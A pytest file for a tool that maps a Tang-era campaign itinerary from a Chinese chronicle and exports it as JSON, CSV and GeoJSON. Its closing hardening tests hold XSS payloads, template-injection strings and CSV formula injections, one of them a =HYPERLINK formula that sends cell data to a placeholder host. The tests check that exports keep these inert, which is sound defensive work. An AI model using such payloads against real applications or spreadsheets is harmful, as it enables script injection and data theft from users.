"""Exports: JSON in the documented shape, CSV rows, Linked Places GeoJSON."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from route.corpus import load_text
from route.export import LPF_CONTEXT, to_csv, to_geojson, to_json
from route.places.gazetteer import DEFAULT_PLACES, load_gazetteer
from route.itinerary import build_itinerary

ROOT = Path(__file__).resolve().parent.parent
CHAPTER = ROOT / "corpus" / "zhenguan19_retreat_from_anshi.txt"


@pytest.fixture(scope="module")
def itinerary():
    return build_itinerary(load_text(CHAPTER), load_gazetteer(DEFAULT_PLACES))


def test_json_shape(itinerary) -> None:
    data = json.loads(to_json(itinerary))
    assert {"source", "context", "stops", "en_route", "warnings"} <= set(data)
    first = data["stops"][0]
    assert {"seq", "place", "place_id", "lat", "lon", "uncertainty_km", "first_line", "last_line",
            "date", "leg_km", "events"} <= set(first)
    assert (first["seq"], first["place"], first["first_line"], first["last_line"]) == (1, "安市城", 3, 10)
    assert {"label", "precision", "jdn_start", "jdn_end", "julian_start", "julian_end"} <= set(first["date"])
    assert {"line", "text", "date"} <= set(first["events"][0])
    assert data["en_route"][0]["after_stop"] == 5
    assert {"line", "kind", "message"} <= set(data["warnings"][0])


def test_csv_has_one_row_per_stop(itinerary) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(itinerary))))
    assert [r["place"] for r in rows] == [s.place.name for s in itinerary.stops]
    assert rows[0]["julian_start"] == "0645-10-13"


def _check_lpf_feature(feature: dict) -> None:
    """The LPF fields we emit, checked by hand (a schema check, no network)."""
    assert feature["type"] == "Feature" and feature["@id"]
    geometry = feature["geometry"]
    if geometry["type"] == "Point":
        lon, lat = geometry["coordinates"]
        assert 60 < lon < 150 and 15 < lat < 55, "coordinates must be [lon, lat]"
        assert isinstance(feature["properties"]["seq"], int)
        assert all(set(n) == {"toponym", "lang"} and n["toponym"] for n in feature["names"])
        for span in feature.get("when", {}).get("timespans", []):
            assert span["start"]["earliest"] <= span["end"]["latest"]
            assert len(span["start"]["earliest"].split("-")[0]) == 4  # ISO 8601 year
        assert all(link["type"] and ":" in link["identifier"] for link in feature["links"])
    else:
        assert geometry["type"] == "LineString" and len(geometry["coordinates"]) >= 2


def test_geojson_is_linked_places(itinerary) -> None:
    data = json.loads(to_geojson(itinerary))
    assert data["type"] == "FeatureCollection" and data["@context"] == LPF_CONTEXT
    for feature in data["features"]:
        _check_lpf_feature(feature)
    points = [f for f in data["features"] if f["geometry"]["type"] == "Point"]
    assert [f["properties"]["seq"] for f in points] == list(range(1, len(itinerary.stops) + 1))
    assert points[0]["when"]["timespans"][0]["start"]["earliest"] == "0645-10-16"  # Gregorian


@pytest.mark.parametrize("flag", ["--json", "--csv", "--geojson", None])
def test_cli_itinerary(flag: str | None) -> None:
    args = [sys.executable, "-m", "route", "itinerary", str(CHAPTER)] + ([flag] if flag else [])
    done = subprocess.run(args, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    if flag in ("--json", "--geojson"):
        json.loads(done.stdout)
    assert "安市城" in done.stdout


def test_cli_bad_file_exits_2_without_traceback(tmp_path: Path) -> None:
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    done = subprocess.run([sys.executable, "-m", "route", "itinerary", str(empty)],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert "empty.txt" in done.stderr and "Traceback" not in done.stderr


# -- hardening: hostile text stays data in every export ------------------------------------------

DATA = ROOT / "tests" / "data"
# Template syntax in the passage and in a place's name, on top of the markup of the fixture.
HOSTILE_TEXT = (DATA / "itinerary_hostile.txt").read_text(encoding="utf-8") + (
    "十月十一日，大军渡辽水。{{ 7*7 }} ${alert(1)}\n十月十三日，大军至{{ 7*7 }}城。`);alert(1);//\n")


@pytest.fixture(scope="module")
def hostile():
    from route.corpus import parse_text

    gazetteer = load_gazetteer(DATA / "gazetteer_hostile.csv")
    return build_itinerary(parse_text(HOSTILE_TEXT, name="<b>hostile</b>.txt"), gazetteer, context="贞观十九年九月")


def test_hostile_text_round_trips_through_json(hostile) -> None:
    # JSON is data: markup, links and template syntax come back exactly as written, never evaluated.
    data = json.loads(to_json(hostile))
    assert data["source"] == "<b>hostile</b>.txt"
    assert [s["written"] for s in data["stops"]] == [
        "<script>alert(1)</script>城", "辽水", "<img src=x onerror=alert(1)>", "辽水", "{{ 7*7 }}城"]
    assert data["stops"][0]["place"] == "<script>alert(1)</script>城"
    assert data["stops"][4]["events"][0]["text"] == "十月十三日，大军至{{ 7*7 }}城"
    assert "49" not in to_json(hostile)


def test_hostile_text_round_trips_through_csv(hostile) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(hostile))))
    assert [r["written"] for r in rows] == [s.written for s in hostile.stops]
    assert all(r["place"] == "<script>alert(1)</script>城" for r in rows if r["place_id"] == "xss-cheng")


def test_hostile_text_round_trips_through_geojson(hostile) -> None:
    data = json.loads(to_geojson(hostile))
    points = [f for f in data["features"] if f["geometry"]["type"] == "Point"]
    assert [f["names"][0]["toponym"] for f in points] == [s.written for s in hostile.stops]
    assert points[0]["properties"]["title"] == "<script>alert(1)</script>城"
    for feature in data["features"]:
        _check_lpf_feature(feature)


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        # A spreadsheet runs these as formulas (=HYPERLINK can send data away): start them with '.
        ("=HYPERLINK(\"http://x/\"&A1)", "'=HYPERLINK(\"http://x/\"&A1)"),
        ("+1+1城", "'+1+1城"),
        ("-1城", "'-1城"),
        ("@SUM(A1)城", "'@SUM(A1)城"),
        ("辽水", "辽水"),  # ordinary names are untouched
    ],
)
def test_csv_cells_are_never_formulas(name: str, cell: str) -> None:
    from route.places.gazetteer import parse_gazetteer

    header = "id,name,variants,kind,lat,lon,uncertainty_km,modern,valid_from,valid_to,source,matches,notes"
    quoted = name.replace('"', '""')
    gazetteer = parse_gazetteer(f'{header}\nx,"{quoted}",,river,41.5,-122.7,30,,,,,,\n', "g.csv")
    it = build_itinerary(f"九月二十一日，大军至{name}。", gazetteer, context="贞观十九年九月")
    (row,) = csv.DictReader(io.StringIO(to_csv(it)))
    assert (row["place"], row["written"]) == (cell, cell)
    assert row["lon"] == "-122.7"  # numbers are not text: a negative longitude stays a number
    assert json.loads(to_json(it))["stops"][0]["place"] == name  # JSON keeps the name as it is
